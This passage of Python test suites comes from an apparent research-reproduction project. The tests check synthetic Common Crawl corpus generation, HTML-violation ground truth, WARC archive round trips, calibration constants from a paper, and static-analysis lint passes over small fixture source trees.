    def test_presence_tracks_table2_shape(self, plan):
        """2017 grew strongly vs 2016 and ~97-99% of present domains
        succeed, as in Table 2."""
        assert len(plan.present[2017]) > len(plan.present[2015])
        for year in plan.present:
            present = len(plan.present[year])
            succeeded = len(plan.succeeded[year])
            assert succeeded <= present
            if present > 50:
                assert succeeded / present > 0.93

    def test_active_only_for_succeeded(self, plan):
        for (domain, year) in plan.active:
            assert domain in plan.succeeded[year]

    def test_overall_violating_rate_near_figure9(self, plan):
        """The 2022 any-violation rate should land near the paper's 68%."""
        rate = plan.domains_violating(2022) / len(plan.succeeded[2022])
        assert abs(rate - cal.OVERALL_VIOLATING[2022]) < 0.10

    def test_fb2_rate_near_target(self, plan):
        rate = plan.expected_rule_rate("FB2", 2015)
        assert abs(rate - cal.yearly("FB2", 2015)) < 0.10

    def test_rare_violations_rare(self, plan):
        assert plan.expected_rule_rate("DE1", 2022) < 0.05
        assert plan.expected_rule_rate("HF5_3", 2022) < 0.05

    def test_terminal_injectors_last_on_pages(self, plan):
        for specs in plan.pages.values():
            for spec in specs:
                flags = [INJECTORS[name].terminal for name in spec.injectors]
                assert flags == sorted(flags)

    def test_page_counts_within_cap(self, plan):
        for (domain, year), specs in plan.pages.items():
            html_pages = [s for s in specs if s.html and s.utf8]
            assert 1 <= len(html_pages) <= plan.config.max_pages


class TestRenderPage:
    def test_render_deterministic(self, plan):
        spec = next(iter(plan.pages.values()))[0]
        assert render_page(spec, 3) == render_page(spec, 3)

    def test_non_utf8_page_does_not_decode(self, plan):
        for specs in plan.pages.values():
            for spec in specs:
                if not spec.utf8:
                    payload = render_page(spec, 3)
                    with pytest.raises(UnicodeDecodeError):
                        payload.decode("utf-8")
                    return
        pytest.skip("no non-utf8 page in this plan")

    def test_json_page(self, plan):
        for specs in plan.pages.values():
            for spec in specs:
                if not spec.html:
                    import json

                    payload = render_page(spec, 3)
                    assert json.loads(payload)["domain"] == spec.domain
                    return
        pytest.skip("no json page in this plan")


class TestOverlap:
    """The overlap knob that feeds the incremental dedup engine."""

    def test_zero_overlap_is_bit_identical_to_legacy_plans(self):
        """overlap_fraction=0 must not perturb any existing draw: the
        planner's RNG streams and page specs are unchanged."""
        legacy = CorpusPlanner(
            CorpusConfig(num_domains=30, max_pages=4, seed=7)
        ).plan()
        explicit = CorpusPlanner(
            CorpusConfig(num_domains=30, max_pages=4, seed=7,
                         overlap_fraction=0.0)
        ).plan()
        assert legacy.pages == explicit.pages
        assert all(
            not spec.stable
            for specs in legacy.pages.values()
            for spec in specs
        )

    def test_stable_pages_render_identically_across_years(self):
        config = CorpusConfig(num_domains=30, max_pages=4, seed=7,
                              years=(2020, 2021, 2022),
                              overlap_fraction=0.75)
        plan = CorpusPlanner(config).plan()
        by_url: dict[tuple, dict[int, bytes]] = {}
        stable_seen = 0
        for (domain, year), specs in plan.pages.items():
            for spec in specs:
                if spec.stable:
                    stable_seen += 1
                    assert not spec.injectors, (
                        "injectors must stay on volatile slots"
                    )
                    by_url.setdefault(spec.url, {})[year] = render_page(
                        spec, config.seed
                    )
        assert stable_seen > 0
        multi_year = {
            url: renders for url, renders in by_url.items()
            if len(renders) > 1
        }
        assert multi_year, "no page was stable across two snapshots"
        for renders in multi_year.values():
            assert len(set(renders.values())) == 1

    def test_every_domain_keeps_a_volatile_slot(self):
        plan = CorpusPlanner(
            CorpusConfig(num_domains=30, max_pages=2, seed=7,
                         overlap_fraction=1.0)
        ).plan()
        for specs in plan.pages.values():
            injectable = [s for s in specs if s.html and s.utf8]
            assert any(not s.stable for s in injectable)
