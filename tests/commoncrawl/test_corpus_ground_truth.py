"""Corpus-wide ground truth: every generated page's measured violations
must equal the union of its injected effects — no false positives, and
the only tolerated miss is the documented HF3-without-body-tag case."""
from __future__ import annotations

from collections import Counter

import pytest

from repro.commoncrawl import CorpusConfig, CorpusPlanner
from repro.commoncrawl.corpusgen import render_page
from repro.commoncrawl.templates import INJECTORS
from repro.core import Checker


@pytest.fixture(scope="module")
def plan():
    return CorpusPlanner(
        CorpusConfig(num_domains=50, max_pages=4, seed=97, years=(2015, 2022))
    ).plan()


def test_every_page_matches_ground_truth(plan):
    checker = Checker()
    false_positives = Counter()
    false_negatives = Counter()
    pages = 0
    for (domain, year), specs in plan.pages.items():
        for spec in specs:
            if not spec.html or not spec.utf8:
                continue
            pages += 1
            html = render_page(spec, plan.config.seed).decode()
            got = set(checker.check_html(html).violated)
            want = set()
            for name in spec.injectors:
                want |= set(INJECTORS[name].effects)
            if "HF2_NOBODY" in spec.injectors:
                # no explicit <body> tag exists for a second one to merge
                want.discard("HF3")
            for violation in got - want:
                false_positives[violation] += 1
            for violation in want - got:
                false_negatives[violation] += 1
    assert pages > 300
    assert not false_positives, false_positives.most_common()
    assert not false_negatives, false_negatives.most_common()


def test_benign_pages_are_clean(plan):
    """Pages with zero injectors never violate (the prevalence model's
    floor must be exactly zero)."""
    checker = Checker()
    for (domain, year), specs in plan.pages.items():
        for spec in specs:
            if spec.injectors or not spec.html or not spec.utf8:
                continue
            html = render_page(spec, plan.config.seed).decode()
            assert checker.check_html(html).violated == frozenset(), spec.url
            return  # one clean page per corpus suffices as a spot check
