"""Archive builder + client tests: layout, indexing, fetch round trips."""
from __future__ import annotations

import json

import pytest

from repro.commoncrawl import (
    ArchiveBuilder,
    CommonCrawlClient,
    CorpusConfig,
    CorpusPlanner,
    snapshot_name,
)
from repro.html import decode_bytes


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    root = tmp_path_factory.mktemp("archive")
    config = CorpusConfig(
        num_domains=40, max_pages=3, seed=21, years=(2015, 2022)
    )
    plan = CorpusPlanner(config).plan()
    built = ArchiveBuilder(root).build(plan)
    return root, plan, built


class TestLayout:
    def test_collinfo_lists_snapshots(self, archive):
        root, plan, built = archive
        collinfo = json.loads((root / "collinfo.json").read_text())
        assert [c["id"] for c in collinfo] == [
            snapshot_name(2015), snapshot_name(2022)
        ]

    def test_warc_parts_exist(self, archive):
        root, _plan, built = archive
        for snapshot in built:
            for part in snapshot.warc_parts:
                assert (root / part).exists()

    def test_cdx_indexes_exist(self, archive):
        root, _plan, built = archive
        for snapshot in built:
            assert (root / snapshot.cdx_path).exists()

    def test_ground_truth_saved(self, archive):
        root, plan, _built = archive
        truth = json.loads((root / "ground_truth.json").read_text())
        assert truth["num_domains"] == plan.config.num_domains
        assert set(truth["succeeded"]) == {"2015", "2022"}

    def test_record_count_matches_plan(self, archive):
        _root, plan, built = archive
        for snapshot in built:
            page_records = sum(
                len(plan.pages.get((domain, snapshot.year), ()))
                for domain in plan.succeeded[snapshot.year]
            )
            failed_domains = len(plan.present[snapshot.year]) - len(
                plan.succeeded[snapshot.year]
            )
            assert snapshot.records == (
                page_records + failed_domains + snapshot.revisits
            )

    def test_failed_domains_have_error_captures(self, archive):
        root, plan, _built = archive
        client = CommonCrawlClient(root)
        for snapshot in _built:
            failed = set(plan.present[snapshot.year]) - set(
                plan.succeeded[snapshot.year]
            )
            for domain in failed:
                entries = list(client.query(snapshot.name, domain))
                assert entries, "failed domains are still found on the index"
                assert all(entry.status == 503 for entry in entries)
                return  # one is enough
        pytest.skip("plan has no failed domains")


class TestClient:
    def test_rejects_non_archive_dir(self, tmp_path):
        with pytest.raises(FileNotFoundError):
            CommonCrawlClient(tmp_path)

    def test_collections(self, archive):
        root, _plan, _built = archive
        client = CommonCrawlClient(root)
        assert [c.year for c in client.collections()] == [2015, 2022]

    def test_query_respects_limit_and_mime(self, archive):
        root, plan, _built = archive
        client = CommonCrawlClient(root)
        domain = plan.succeeded[2015][0]
        entries = list(client.query(snapshot_name(2015), domain, limit=2))
        assert len(entries) <= 2
        assert all(entry.mime == "text/html" for entry in entries)

    def test_query_unknown_domain_empty(self, archive):
        root, _plan, _built = archive
        client = CommonCrawlClient(root)
        assert list(client.query(snapshot_name(2015), "nope.example")) == []

    def test_fetch_roundtrip(self, archive):
        root, plan, _built = archive
        client = CommonCrawlClient(root)
        domain = plan.succeeded[2015][0]
        entry = next(client.query(snapshot_name(2015), domain))
        record = client.fetch(entry)
        assert record.target_uri == entry.url
        text = decode_bytes(record.payload)
        assert text is not None and text.startswith("<!DOCTYPE html>")

    def test_fetched_digest_matches_index(self, archive):
        root, plan, _built = archive
        client = CommonCrawlClient(root)
        domain = plan.succeeded[2022][0]
        entry = next(client.query(snapshot_name(2022), domain))
        record = client.fetch(entry)
        assert record.payload_digest == entry.digest

    def test_json_pages_visible_without_mime_filter(self, archive):
        root, plan, _built = archive
        client = CommonCrawlClient(root)
        mimes = set()
        for domain in plan.succeeded[2022]:
            for entry in client.query(snapshot_name(2022), domain, mime=None):
                mimes.add(entry.mime)
        assert "text/html" in mimes
