"""Self-consistency checks on the paper-constant tables."""
from __future__ import annotations

import pytest

from repro.commoncrawl import calibration as cal
from repro.core.violations import ALL_IDS, IDS_BY_GROUP


class TestSnapshotTable:
    def test_eight_snapshots(self):
        assert len(cal.SNAPSHOTS) == 8
        assert [spec.year for spec in cal.SNAPSHOTS] == list(cal.YEARS)

    def test_success_rates_match_paper_band(self):
        for spec in cal.SNAPSHOTS:
            assert 0.975 <= spec.succeeded / spec.domains <= 0.995

    def test_2017_growth(self):
        assert cal.SNAPSHOT_BY_YEAR[2017].domains > cal.SNAPSHOT_BY_YEAR[2016].domains

    def test_avg_pages_in_cap(self):
        for spec in cal.SNAPSHOTS:
            assert 0 < spec.avg_pages <= 100

    def test_names_are_cc_main_ids(self):
        for spec in cal.SNAPSHOTS:
            assert spec.name.startswith("CC-MAIN-")
            assert str(spec.year) in spec.name


class TestPrevalenceTables:
    def test_all_rules_covered(self):
        assert set(cal.UNION_PREVALENCE) == set(ALL_IDS)
        assert set(cal.YEARLY_PREVALENCE) == set(ALL_IDS)
        assert set(cal.UNION_COUNTS) == set(ALL_IDS)

    def test_eight_yearly_values_each(self):
        for values in cal.YEARLY_PREVALENCE.values():
            assert len(values) == 8

    def test_yearly_below_union(self):
        """A year's prevalence can never exceed the all-time union."""
        for rule, values in cal.YEARLY_PREVALENCE.items():
            assert max(values) <= cal.UNION_PREVALENCE[rule] + 1e-9, rule

    def test_union_counts_match_fractions(self):
        for rule, count in cal.UNION_COUNTS.items():
            implied = count / cal.TOTAL_ANALYZED_DOMAINS
            assert implied == pytest.approx(
                cal.UNION_PREVALENCE[rule], abs=0.0006
            ), rule

    def test_figure8_ordering(self):
        """FB2 > DM3 > FB1 > HF4 > ... as published."""
        ordered = sorted(
            cal.UNION_PREVALENCE, key=cal.UNION_PREVALENCE.__getitem__,
            reverse=True,
        )
        assert ordered[:5] == ["FB2", "DM3", "FB1", "HF4", "HF1"]
        assert ordered[-1] == "HF5_3"

    def test_overall_violating_above_every_single_rule(self):
        for index, year in enumerate(cal.YEARS):
            highest = max(
                values[index] for values in cal.YEARLY_PREVALENCE.values()
            )
            assert cal.OVERALL_VIOLATING[year] >= highest

    def test_groups_partition_rules(self):
        grouped = [rule for rules in cal.GROUPS.values() for rule in rules]
        assert sorted(grouped) == sorted(ALL_IDS)
        for group, rules in cal.GROUPS.items():
            assert tuple(IDS_BY_GROUP[
                next(g for g in IDS_BY_GROUP if g.value == group)
            ]) == rules

    def test_autofix_constants_consistent(self):
        violating = cal.AUTOFIX["violating_2022"]
        after = cal.AUTOFIX["violating_after_autofix"]
        fixed = (violating - after) / violating
        assert fixed == pytest.approx(cal.AUTOFIX["fraction_fixed"], abs=0.01)

    def test_mitigation_counts_vs_fractions(self):
        analyzed_2015 = cal.SNAPSHOT_BY_YEAR[2015].succeeded
        count, fraction = cal.MITIGATIONS["nl_lt_in_url_2015"]
        assert count / analyzed_2015 == pytest.approx(fraction, rel=0.05)

    def test_helpers(self):
        assert cal.yearly("FB2", 2015) == 0.500
        assert cal.union("FB2") == 0.7854
