"""Smoke tests: the runnable examples must actually run and demonstrate
what they claim."""
from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"


def run_example(name: str, timeout: int = 180) -> str:
    result = subprocess.run(
        [sys.executable, str(EXAMPLES / name)],
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


class TestExamples:
    def test_quickstart(self):
        out = run_example("quickstart.py")
        assert "FB2" in out
        assert "autofix repaired" in out
        assert "no violations" in out

    def test_mxss_sanitizer_bypass(self):
        out = run_example("mxss_sanitizer_bypass.py")
        assert "LIVE XSS" in out
        assert "blocked: True" in out

    def test_autofix_sweep(self):
        out = run_example("autofix_sweep.py")
        assert "violating before repair" in out
        assert "auto-fixable" in out

    @pytest.mark.slow
    def test_longitudinal_study(self):
        out = run_example("longitudinal_study.py", timeout=600)
        assert "Figure 9" in out
        assert "Section 4.4" in out

    @pytest.mark.slow
    def test_strict_rollout(self):
        out = run_example("strict_rollout.py", timeout=600)
        assert "STRICT-PARSER staged rollout" in out
        assert "[Deprecation]" in out
