"""FootprintPass behaviour on injected-violation fixture trees."""
from __future__ import annotations

from repro.staticcheck import Severity, run_lint
from repro.staticcheck.passes import FootprintPass


def lint(make_tree, source: str):
    root = make_tree({"core/rules/fixture.py": source})
    return run_lint(root, [FootprintPass()])


def messages(result):
    return [finding.message for finding in result.findings]


CLEAN_EVENT_RULE = '''
    class EventRule(Rule):
        """AB1 — fixture (HTML 1.1.1)."""
        id = "AB1"
        footprint = Footprint(events=("foster-parented",))

        def fused_event(self, event, source, out):
            out.append(self.finding(event.offset))

        def check(self, result):
            return [self.finding(e.offset)
                    for e in result.events_of("foster-parented")]
'''


class TestCleanRules:
    def test_clean_event_rule_passes(self, make_tree):
        result = lint(make_tree, CLEAN_EVENT_RULE)
        assert result.findings == ()

    def test_rules_analyzed_metric(self, make_tree):
        lint_pass = FootprintPass()
        root = make_tree({"core/rules/fixture.py": CLEAN_EVENT_RULE})
        run_lint(root, [lint_pass])
        assert lint_pass.metrics["rules_analyzed"] == 1

    def test_tag_guarded_tree_walk(self, make_tree):
        result = lint(make_tree, '''
            class TreeRule(Rule):
                """AB2 — fixture (HTML 1.1.2)."""
                id = "AB2"
                footprint = Footprint(tags=("base",))

                def fused_element(self, element, in_head, source, state, out):
                    out.append(self.finding(element.offset))

                def check(self, result):
                    out = []
                    for element in result.document.iter_elements():
                        if element.name == "base":
                            out.append(self.finding(element.offset))
                    return out
        ''')
        assert result.findings == ()

    def test_unguarded_tree_walk_needs_wildcard(self, make_tree):
        result = lint(make_tree, '''
            class TreeRule(Rule):
                """AB2 — fixture (HTML 1.1.2)."""
                id = "AB2"
                footprint = Footprint(tags=("*",))

                def fused_element(self, element, in_head, source, state, out):
                    out.append(self.finding(element.offset))

                def check(self, result):
                    return [self.finding(e.offset)
                            for e in result.document.iter_elements()]
        ''')
        assert result.findings == ()


class TestDeclarationDrift:
    def test_missing_footprint_flagged(self, make_tree):
        result = lint(make_tree, '''
            class NoFootprint(Rule):
                """AB3 — fixture (HTML 1.1.3)."""
                id = "AB3"

                def check(self, result):
                    return []
        ''')
        assert any("no declared footprint" in m for m in messages(result))
        assert result.findings[0].severity is Severity.ERROR

    def test_diverging_field_flagged_with_both_sides(self, make_tree):
        result = lint(make_tree, '''
            class Drifted(Rule):
                """AB4 — fixture (HTML 1.1.4)."""
                id = "AB4"
                footprint = Footprint(events=("foster-parented",))

                def fused_event(self, event, source, out):
                    pass

                def check(self, result):
                    return [self.finding(e.offset)
                            for e in result.events_of("second-body-merged")]
        ''')
        drift = [m for m in messages(result) if "diverges" in m]
        assert len(drift) == 1
        assert "foster-parented" in drift[0]
        assert "second-body-merged" in drift[0]

    def test_missing_handler_flagged(self, make_tree):
        result = lint(make_tree, '''
            class NoHandler(Rule):
                """AB5 — fixture (HTML 1.1.5)."""
                id = "AB5"
                footprint = Footprint(events=("foster-parented",))

                def check(self, result):
                    return [self.finding(e.offset)
                            for e in result.events_of("foster-parented")]
        ''')
        assert any(
            "does not implement fused_event()" in m for m in messages(result)
        )

    def test_unresolvable_declaration_flagged(self, make_tree):
        result = lint(make_tree, '''
            class Dynamic(Rule):
                """AB6 — fixture (HTML 1.1.6)."""
                id = "AB6"
                footprint = Footprint(events=tuple(compute_kinds()))

                def fused_event(self, event, source, out):
                    pass

                def check(self, result):
                    return []
        ''')
        assert any(
            "not statically evaluable" in m for m in messages(result)
        )

    def test_events_without_kind_filter_flagged(self, make_tree):
        result = lint(make_tree, '''
            class Unfiltered(Rule):
                """AB7 — fixture (HTML 1.1.7)."""
                id = "AB7"
                footprint = Footprint(events=("foster-parented",))

                def fused_event(self, event, source, out):
                    pass

                def check(self, result):
                    return [self.finding(e.offset) for e in result.events]
        ''')
        assert any(
            "without a statically recognizable kind filter" in m
            for m in messages(result)
        )


class TestStreamability:
    def test_self_assignment_flagged(self, make_tree):
        result = lint(make_tree, '''
            class Stateful(Rule):
                """AC1 — fixture (HTML 1.2.1)."""
                id = "AC1"
                footprint = Footprint(events=("foster-parented",))

                def fused_event(self, event, source, out):
                    pass

                def check(self, result):
                    self.seen = True
                    return [self.finding(e.offset)
                            for e in result.events_of("foster-parented")]
        ''')
        assert any("cross-call state" in m for m in messages(result))

    def test_result_mutation_flagged(self, make_tree):
        result = lint(make_tree, '''
            class Mutator(Rule):
                """AC2 — fixture (HTML 1.2.2)."""
                id = "AC2"
                footprint = Footprint(events=("foster-parented",))

                def fused_event(self, event, source, out):
                    pass

                def check(self, result):
                    result.errors.clear()
                    return [self.finding(e.offset)
                            for e in result.events_of("foster-parented")]
        ''')
        assert any(
            "mutating the shared ParseResult" in m for m in messages(result)
        )

    def test_reordering_flagged(self, make_tree):
        result = lint(make_tree, '''
            class Sorter(Rule):
                """AC3 — fixture (HTML 1.2.3)."""
                id = "AC3"
                footprint = Footprint(events=("foster-parented",))

                def fused_event(self, event, source, out):
                    pass

                def check(self, result):
                    ordered = sorted(result.errors, key=lambda e: e.offset)
                    return [self.finding(e.offset)
                            for e in result.events_of("foster-parented")]
        ''')
        assert any("document order only" in m for m in messages(result))

    def test_inline_regex_flagged(self, make_tree):
        result = lint(make_tree, '''
            class Regexy(Rule):
                """AC4 — fixture (HTML 1.2.4)."""
                id = "AC4"
                footprint = Footprint(events=("foster-parented",))

                def fused_event(self, event, source, out):
                    pass

                def check(self, result):
                    if re.search(r"x+", result.source):
                        pass
                    return [self.finding(e.offset)
                            for e in result.events_of("foster-parented")]
        ''')
        assert any("builds a regex inline" in m for m in messages(result))

    def test_implicit_compile_also_flagged(self, make_tree):
        result = lint(make_tree, '''
            class Regexy(Rule):
                """AC5 — fixture (HTML 1.2.5)."""
                id = "AC5"
                footprint = Footprint(events=("foster-parented",))

                def fused_event(self, event, source, out):
                    pass

                def check(self, result):
                    re.findall(r"y+", result.source)
                    return [self.finding(e.offset)
                            for e in result.events_of("foster-parented")]
        ''')
        assert any("re.findall" in m for m in messages(result))

    def test_module_level_compile_allowed(self, make_tree):
        result = lint(make_tree, CLEAN_EVENT_RULE + '''

    PATTERN = re.compile("z+")
''')
        assert not any("regex" in m for m in messages(result))


class TestElementHandlerStreamSafety:
    """fused_element must not read tree structure — stream mode emits
    elements pre-order during the parse, before the tree is finished."""

    def test_children_read_flagged(self, make_tree):
        result = lint(make_tree, '''
            class ChildReader(Rule):
                """AD1 — fixture (HTML 1.3.1)."""
                id = "AD1"
                footprint = Footprint(tags=("base",))

                def fused_element(self, element, in_head, source, state, out):
                    if element.children:
                        out.append(self.finding(element.offset))

                def check(self, result):
                    out = []
                    for element in result.document.iter_elements():
                        if element.name == "base":
                            out.append(self.finding(element.offset))
                    return out
        ''')
        flagged = [m for m in messages(result) if "reads .children" in m]
        assert len(flagged) == 1
        assert "pre-order" in flagged[0]
        assert result.findings[0].severity is Severity.ERROR

    def test_parent_read_flagged(self, make_tree):
        result = lint(make_tree, '''
            class ParentReader(Rule):
                """AD2 — fixture (HTML 1.3.2)."""
                id = "AD2"
                footprint = Footprint(tags=("base",))

                def fused_element(self, element, in_head, source, state, out):
                    if element.parent is not None:
                        out.append(self.finding(element.offset))

                def check(self, result):
                    out = []
                    for element in result.document.iter_elements():
                        if element.name == "base":
                            out.append(self.finding(element.offset))
                    return out
        ''')
        assert any("reads .parent" in m for m in messages(result))

    def test_structure_free_handler_passes(self, make_tree):
        result = lint(make_tree, '''
            class Clean(Rule):
                """AD3 — fixture (HTML 1.3.3)."""
                id = "AD3"
                footprint = Footprint(tags=("base",))

                def fused_element(self, element, in_head, source, state, out):
                    if element.is_html() and not in_head:
                        out.append(self.finding(element.offset))

                def check(self, result):
                    out = []
                    for element in result.document.iter_elements():
                        if element.name == "base":
                            out.append(self.finding(element.offset))
                    return out
        ''')
        assert result.findings == ()

    def test_structure_read_in_check_body_still_allowed(self, make_tree):
        # the ban is scoped to the streaming handler; the reference check
        # runs over the finished DOM and may read structure freely
        result = lint(make_tree, '''
            class CheckOnly(Rule):
                """AD4 — fixture (HTML 1.3.4)."""
                id = "AD4"
                footprint = Footprint(tags=("*",))

                def fused_element(self, element, in_head, source, state, out):
                    out.append(self.finding(element.offset))

                def check(self, result):
                    return [self.finding(e.offset)
                            for e in result.document.iter_elements()
                            if e.parent is not None]
        ''')
        assert not any("reads .parent" in m for m in messages(result))
