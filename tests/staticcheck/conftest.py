"""Shared fixture helpers: build throwaway source trees and lint them."""
from __future__ import annotations

import textwrap
from pathlib import Path

import pytest


@pytest.fixture
def make_tree(tmp_path):
    """Write ``{relative_path: source}`` files under tmp_path, return the root."""

    def _make(files: dict[str, str]) -> Path:
        for rel, text in files.items():
            path = tmp_path / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(textwrap.dedent(text), encoding="utf-8")
        return tmp_path

    return _make
