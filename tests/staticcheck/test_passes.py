"""Per-pass behaviour on injected-violation fixture trees."""
from __future__ import annotations

from repro.cli import main
from repro.staticcheck import Severity, run_lint
from repro.staticcheck.passes import (
    DeterminismPass,
    ExceptionHygienePass,
    RegexSafetyPass,
    RegistryConsistencyPass,
    StateMachinePass,
)


def messages(result):
    return [finding.message for finding in result.findings]


class TestRegistryConsistency:
    def test_unregistered_id_flagged(self, make_tree):
        root = make_tree({
            "core/rules/evil.py": '''
                class Evil(Rule):
                    """ZZ9 — bogus (HTML 1.2.3)."""
                    id = "ZZ9"
                    def check(self, result):
                        return []
            ''',
        })
        result = run_lint(root, [RegistryConsistencyPass()])
        assert len(result.findings) == 1
        assert "'ZZ9'" in result.findings[0].message
        assert result.findings[0].severity is Severity.ERROR

    def test_lint_cli_exits_nonzero_on_unregistered_rule(self, make_tree, capsys):
        root = make_tree({
            "core/rules/evil.py": '''
                class Evil(Rule):
                    """ZZ9 — bogus (HTML 1.2.3)."""
                    id = "ZZ9"
                    def check(self, result):
                        return []
            ''',
        })
        assert main(["lint", str(root)]) == 1
        assert "registry-consistency" in capsys.readouterr().out

    def test_missing_and_nonliteral_ids(self, make_tree):
        root = make_tree({
            "core/rules/evil.py": '''
                PREFIX = "F"

                class NoId(Rule):
                    """No id at all (HTML 1.2.3)."""
                    def check(self, result):
                        return []

                class ComputedId(Rule):
                    """Computed id (HTML 1.2.3)."""
                    id = PREFIX + "B1"
                    def check(self, result):
                        return []
            ''',
        })
        result = run_lint(root, [RegistryConsistencyPass()])
        assert any("does not define an id" in m for m in messages(result))
        assert any("not a string literal" in m for m in messages(result))

    def test_duplicate_implementation_flagged(self, make_tree):
        root = make_tree({
            "core/rules/a.py": '''
                class First(Rule):
                    """FB1 once (HTML 13.2.5.40)."""
                    id = "FB1"
                    def check(self, result):
                        return []
            ''',
            "core/rules/b.py": '''
                class Second(Rule):
                    """FB1 again (HTML 13.2.5.40)."""
                    id = "FB1"
                    def check(self, result):
                        return []
            ''',
        })
        result = run_lint(root, [RegistryConsistencyPass()])
        assert any("implemented by both" in m for m in messages(result))

    def test_missing_spec_citation_is_warning(self, make_tree):
        root = make_tree({
            "core/rules/a.py": '''
                class NoCitation(Rule):
                    """FB1 with no citation anywhere."""
                    id = "FB1"
                    def check(self, result):
                        return []
            ''',
        })
        result = run_lint(root, [RegistryConsistencyPass()])
        assert len(result.findings) == 1
        assert result.findings[0].severity is Severity.WARNING
        assert "spec section" in result.findings[0].message

    def test_transitive_subclasses_and_abstract_helpers(self, make_tree):
        root = make_tree({
            "core/rules/a.py": '''
                class _Helper(Rule):
                    def check(self, result):
                        return []

                class Leaf(_Helper):
                    """Unknown id via helper base (HTML 1.2)."""
                    id = "NOPE"
            ''',
        })
        result = run_lint(root, [RegistryConsistencyPass()])
        assert len(result.findings) == 1
        assert "'NOPE'" in result.findings[0].message


class TestDeterminism:
    def test_flags_seeded_randomness_regression(self, make_tree):
        root = make_tree({
            "analysis/evil.py": '''
                import random

                def sample():
                    return random.random()
            ''',
        })
        result = run_lint(root, [DeterminismPass()])
        assert len(result.findings) == 1
        assert "shared global RNG" in result.findings[0].message

    def test_suppression_silences_exactly_one_finding(self, make_tree):
        root = make_tree({
            "analysis/evil.py": '''
                import random

                def sample():
                    a = random.random()  # staticcheck: ignore[determinism]
                    b = random.random()
                    return a + b
            ''',
        })
        result = run_lint(root, [DeterminismPass()])
        assert len(result.findings) == 1
        assert result.suppressed == 1
        # the un-suppressed draw is the `b = ...` line (line 6 of the file:
        # dedent keeps the leading blank line of the triple-quoted fixture)
        assert result.findings[0].location.line == 6

    def test_wall_clock_environ_and_datetime(self, make_tree):
        root = make_tree({
            "pipeline/evil.py": '''
                import os
                import time
                from datetime import datetime

                def stamp():
                    when = time.time()
                    today = datetime.now()
                    scale = os.environ.get("REPRO_SCALE")
                    other = os.getenv("HOME")
                    return when, today, scale, other
            ''',
        })
        result = run_lint(root, [DeterminismPass()])
        assert len(result.findings) == 4

    def test_seeded_idioms_allowed(self, make_tree):
        root = make_tree({
            "commoncrawl/fine.py": '''
                import random
                import numpy as np

                def draw(seed, domain):
                    rng = random.Random(f"{seed}:{domain}")
                    arr = np.random.default_rng(seed).integers(0, 10, 4)
                    return rng.random() + arr.sum()
            ''',
        })
        result = run_lint(root, [DeterminismPass()])
        assert result.findings == ()

    def test_config_modules_and_other_dirs_exempt(self, make_tree):
        root = make_tree({
            "analysis/config.py": "import os\nSCALE = os.environ.get('X')\n",
            "study.py": "import os\nCACHE = os.environ.get('Y')\n",
        })
        result = run_lint(root, [DeterminismPass()])
        assert result.findings == ()

    def test_fuzz_dir_is_guarded(self, make_tree):
        root = make_tree({
            "fuzz/evil.py": '''
                import random

                def pick():
                    return random.choice("ab")
            ''',
        })
        result = run_lint(root, [DeterminismPass()])
        assert len(result.findings) == 1
        assert "shared global RNG" in result.findings[0].message

    def test_unseeded_random_instance_flagged(self, make_tree):
        root = make_tree({
            "fuzz/evil.py": '''
                import random

                def make_rng():
                    return random.Random()
            ''',
        })
        result = run_lint(root, [DeterminismPass()])
        assert len(result.findings) == 1
        assert "OS entropy" in result.findings[0].message

    def test_seeded_random_instance_allowed_in_fuzz(self, make_tree):
        root = make_tree({
            "fuzz/fine.py": '''
                import random

                def make_rng(seed, iteration):
                    return random.Random(f"{seed}:{iteration}")
            ''',
        })
        result = run_lint(root, [DeterminismPass()])
        assert result.findings == ()

    def test_as_completed_in_pipeline_flagged(self, make_tree):
        """Both the bare-name and dotted spellings are completion-order
        consumption and must route through the reorder buffer."""
        root = make_tree({
            "pipeline/evil.py": '''
                from concurrent.futures import as_completed
                import concurrent.futures

                def drain(futures):
                    for future in as_completed(futures):
                        yield future.result()

                def drain_dotted(futures):
                    for future in concurrent.futures.as_completed(futures):
                        yield future.result()
            ''',
        })
        result = run_lint(root, [DeterminismPass()])
        assert len(result.findings) == 2
        for finding in result.findings:
            assert "completion order" in finding.message
            assert "streamed_map" in (finding.fix_hint or "")

    def test_as_completed_allowed_in_reorder_module(self, make_tree):
        root = make_tree({
            "pipeline/reorder.py": '''
                from concurrent.futures import as_completed

                def drain(futures):
                    for future in as_completed(futures):
                        yield future.result()
            ''',
        })
        result = run_lint(root, [DeterminismPass()])
        assert result.findings == ()

    def test_as_completed_outside_pipeline_not_flagged(self, make_tree):
        """The store-order contract is pipeline/'s; fuzz/ and friends may
        consume completion order when their oracle sorts afterwards."""
        root = make_tree({
            "fuzz/fine.py": '''
                from concurrent.futures import as_completed

                def drain(futures):
                    return sorted(future.result() for future in as_completed(futures))
            ''',
        })
        result = run_lint(root, [DeterminismPass()])
        assert result.findings == ()


class TestStateMachine:
    def test_unreachable_handler_flagged(self, make_tree):
        root = make_tree({
            "html/machine.py": '''
                class Machine:
                    def __init__(self):
                        self._state = self._a_state

                    def _a_state(self):
                        self._state = self._b_state

                    def _b_state(self):
                        self._state = self._a_state

                    def _c_state(self):
                        return None
            ''',
        })
        result = run_lint(root, [StateMachinePass()])
        assert len(result.findings) == 1
        assert "Machine._c_state" in result.findings[0].message
        assert "unreachable" in result.findings[0].message

    def test_dangling_transition_flagged(self, make_tree):
        root = make_tree({
            "html/machine.py": '''
                class Machine:
                    def _a_state(self):
                        self._state = self._b_state

                    def _b_state(self):
                        self._state = self._typo_state

                    def _c_state(self):
                        self._state = self._a_state
            ''',
        })
        result = run_lint(root, [StateMachinePass()])
        dangling = [m for m in messages(result) if "undefined handler" in m]
        assert len(dangling) == 1
        assert "self._typo_state" in dangling[0]

    def test_state_variable_not_treated_as_dangling(self, make_tree):
        root = make_tree({
            "html/machine.py": '''
                class Machine:
                    def __init__(self):
                        self._return_state = None

                    def _a_state(self):
                        self._state = self._b_state

                    def _b_state(self):
                        self._return_state = self._a_state

                    def _c_state(self):
                        self._state = self._return_state
            ''',
        })
        result = run_lint(root, [StateMachinePass()])
        assert all("_return_state" not in m for m in messages(result))

    def test_dispatch_dict_coverage(self, make_tree):
        root = make_tree({
            "html/machine.py": '''
                DATA = "data"
                RCDATA = "rcdata"

                class Machine:
